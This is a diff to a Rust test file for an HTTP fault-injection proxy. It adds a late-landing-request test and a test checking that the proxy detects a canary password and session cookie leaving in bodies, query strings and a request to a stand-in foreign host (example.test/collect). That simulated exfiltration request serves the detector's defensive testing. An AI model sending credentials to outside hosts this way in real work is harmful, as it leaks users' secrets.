@@ -15,7 +15,9 @@ use axum::extract::State;
 use axum::http::{HeaderMap, StatusCode, header};
 use axum::response::IntoResponse;
 use axum::routing::{get, post};
-use browser_fault::_internal::proxy::{EffectFault, EffectMatcher, FaultProxy, ProxiedRequest};
+use browser_fault::_internal::proxy::{
+    EffectFault, EffectMatcher, FaultProxy, ProxiedRequest, SecretKind,
+};
 use futures_util::FutureExt;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
@@ -69,6 +71,13 @@ async fn login(State(up): State<Upstream>) -> impl IntoResponse {
     )
 }
 
+async fn session() -> impl IntoResponse {
+    (
+        [(header::SET_COOKIE, "sid=sess-4a7be0c19d; Path=/; HttpOnly")],
+        "signed in",
+    )
+}
+
 /// What the site saw of the request's headers.
 async fn page(headers: HeaderMap) -> String {
     let get = |name: &str| {
@@ -99,6 +108,7 @@ async fn upstream() -> (SocketAddr, Upstream) {
         .route("/other", post(accept))
         .route("/gated", post(gated))
         .route("/login", post(login))
+        .route("/session", post(session))
         .route("/page", get(page))
         .route("/redirect", get(redirect))
         .with_state(up.clone());
@@ -689,6 +699,100 @@ async fn shutdown_ends_held_requests_promptly() {
         TcpStream::connect(addr).await.is_err(),
         "no longer listening"
     );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn late_landing_is_held_past_its_client_and_lands_on_release() {
+    let s = Setup::new().await;
+    // Nothing held: at once.
+    bounded("release nothing", s.proxy.release_late()).await;
+    s.proxy
+        .arm(EffectFault::LateLanding, EffectMatcher::unsafe_methods());
+    let client = s.post("/effect", "late body");
+    bounded("held", s.proxy.wait_reached()).await;
+    assert!(s.up.accepted().is_empty(), "held, not forwarded");
+    // The client gives up (a killed browser): the request stays held.
+    client.abort();
+    let _ = client.await;
+    let _ = s.post_now("/other", "meanwhile").await.unwrap();
+    assert_eq!(s.up.accepted(), ["meanwhile"]);
+    bounded("release", s.proxy.release_late()).await;
+    assert_eq!(s.up.accepted(), ["meanwhile", "late body"], "landed, once");
+    bounded("release again", s.proxy.release_late()).await;
+    assert_eq!(s.up.accepted().len(), 2);
+    s.proxy.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn every_request_is_read_for_secrets_and_passes_unchanged() {
+    let s = Setup::new().await;
+    let password = "pw-CANARY 9d3e";
+    s.proxy.watch_secrets(
+        &format!("http://{}", s.up_addr),
+        std::sync::Arc::new(|method: &str, path: &str| method == "POST" && path == "/session"),
+    );
+    s.proxy.add_secret(SecretKind::Password, password);
+    // The sign-in carries the password in its body: where it belongs. Its cookie is a
+    // secret from now on; sent back in the Cookie header, it is where it belongs too.
+    let signed_in = bounded(
+        "sign in",
+        s.client
+            .post(s.url("/session"))
+            .body("user=alice&password=pw-CANARY+9d3e")
+            .send(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(signed_in.status(), 200);
+    let _ = s.page(Some("sid=sess-4a7be0c19d")).await;
+    assert_eq!(s.proxy.secrets_sent(), Some(Vec::new()));
+
+    // A streamed (chunked) body with the password split across its chunks reaches the
+    // site whole, and is found.
+    let (head, mut stream) = raw(
+        &s.proxy,
+        &format!(
+            "POST http://{0}/effect HTTP/1.1\r\nHost: {0}\r\nTransfer-Encoding: chunked\r\n\r\n\
+             9\r\nhi pw-CAN\r\n9\r\nARY 9d3e!\r\n0\r\n\r\n",
+            s.up_addr
+        ),
+    )
+    .await;
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    drop(stream.shutdown().await);
+    assert_eq!(s.up.accepted(), ["hi pw-CANARY 9d3e!"]);
+    // The cookie's value in a body, the password in a query string and in a request to
+    // another origin (refused, but read first).
+    let _ = s.post_now("/other", "token=sess-4a7be0c19d").await.unwrap();
+    let _ = bounded(
+        "get",
+        s.client.get(s.url("/page?p=pw-CANARY%209d3e")).send(),
+    )
+    .await;
+    let refused = bounded(
+        "foreign",
+        s.client
+            .get("http://example.test/collect?x=pw-canary+9d3e")
+            .send(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(refused.status(), 403);
+    let sent = s.proxy.secrets_sent().unwrap();
+    assert_eq!(
+        sent,
+        [
+            "a cookie's value in the body of POST /other",
+            "an account's password in the body of POST /effect",
+            "an account's password in the query string of GET /page",
+            "an account's password in the query string of a GET request to another origin (example.test:80)",
+        ]
+    );
+    assert!(
+        sent.iter()
+            .all(|f| !f.contains("9d3e") && !f.contains("4a7be0"))
+    );
+    s.proxy.shutdown().await;
 }
 
 #[test]
